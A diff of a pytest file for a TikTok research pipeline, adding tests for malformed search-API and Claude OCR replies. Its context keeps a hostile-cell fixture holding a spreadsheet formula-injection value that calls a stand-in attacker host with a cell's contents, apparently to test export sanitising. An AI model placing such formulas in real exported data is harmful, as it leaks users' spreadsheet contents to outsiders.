@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 import json
+import subprocess
 from pathlib import Path
 
 import pandas as pd
@@ -12,9 +13,13 @@ import pytest
 from support.workflow import run_snakemake
 
 from tiktok_research.accounting.export import export_dataset
+from tiktok_research.config import load
 from tiktok_research.database import open_database
-from tiktok_research.errors import DatabaseError
+from tiktok_research.errors import DatabaseError, OcrError, SearchError
+from tiktok_research.process.ocr.claude import ClaudeOcrEngine
 from tiktok_research.records import error_record
+from tiktok_research.registry import Job, Services, load_task
+from tiktok_research.runtime.host import execute
 
 HOSTILE_CELLS = {
     "caption": '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -81,3 +86,60 @@ def test_bad_local_input_is_one_line(tmp_path: Path, setting, expected) -> None:
     assert result.returncode != 0
     assert expected in result.stderr.splitlines(), result.stderr[-2000:]
     assert "Traceback" not in result.stderr + result.stdout
+
+
+@pytest.mark.parametrize("body", [{"videos": 5}, {"videos": "5"}, {"videos": {"link": "x"}}])
+def test_an_odd_serper_reply_is_a_recorded_search_failure(fake_web, tmp_path, monkeypatch,
+                                                         body) -> None:
+    monkeypatch.setenv("SERPER_API_KEY", "k")
+    fake_web.fail("serper", 200, times=None, body=body)
+    config = load({"output_dir": str(tmp_path / "out"), "serper.base_url": fake_web.base_url,
+                   "serper.backoff_seconds": 0.01, "tiktok.hosts": [fake_web.host]})
+    urls = tmp_path / "out" / "queries" / "q" / "urls.json"
+    job = Job(task="search", key="q", config=config, outputs={"urls": str(urls)},
+              params={"query": {"index": 0, "query": "ramen", "meta": {}}})
+    services = Services()
+    with pytest.raises(SearchError) as raised:
+        execute(job, load_task("search"), services)
+    assert raised.value.retryable and not urls.exists()
+    [record] = services.recorded
+    assert record["type"] == "search" and record["query"] == "ramen"
+    assert f"'videos' as {type(body['videos']).__name__}, not a list" in record["error"]
+    assert "gave up after 4 attempts" in record["error"]
+
+
+MESSAGE = {"id": "msg_1", "type": "message", "role": "assistant", "model": "claude-haiku-4-5",
+           "stop_reason": "end_turn", "stop_sequence": None}
+USAGE = {"usage": {"input_tokens": 10, "output_tokens": 3}}
+
+
+def text_block(text):
+    return {**MESSAGE, **USAGE, "content": [{"type": "text", "text": text}]}
+
+
+@pytest.mark.parametrize(("body", "expected", "billed"), [
+    ("not json", "with a body that is not JSON", 0),
+    ([1, 2, 3], "not a Messages response (no usage", 0),
+    ({**MESSAGE, **USAGE, "content": "a string"}, "not a Messages response (content: str)", 1),
+    ({**MESSAGE, "content": [{"type": "text", "text": '{"items": []}'}]}, "(no usage", 0),
+    (text_block(5), "a text block whose text is not a string", 1),
+    (text_block('{"items": 5}'), "JSON without a list of items ('items' is int)", 1),
+], ids=["not JSON", "an array", "string content", "no usage", "text not a string",
+        "items not a list"])
+def test_an_odd_anthropic_reply_is_a_retryable_ocr_failure(fake_web, tmp_path, monkeypatch,
+                                                           body, expected, billed) -> None:
+    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-ant-test-0123456789")
+    frame = tmp_path / "001_t0.0s.jpg"
+    subprocess.run(["ffmpeg", "-v", "error", "-f", "lavfi", "-i", "color=c=red:s=16x16",
+                    "-frames:v", "1", str(frame)], check=True)
+    fake_web.fail("anthropic", 200, body=body,
+                  headers={"Content-Type": "application/json"} if isinstance(body, str) else None)
+    engine = ClaudeOcrEngine(base_url=fake_web.base_url, max_retries=0)
+    with pytest.raises(OcrError) as raised:
+        engine.read(frame)
+    assert expected in str(raised.value) and raised.value.retryable
+    record = error_record(raised.value, {"video_id": "1"}, attempt=1, default_type="process")
+    assert record["type"] == "process" and record["details"]["reason"] in ("bad_reply",
+                                                                          "bad_answer")
+    # A reply with its usage was billed: it counts, whatever its answer was.
+    assert engine.usage.requests == billed
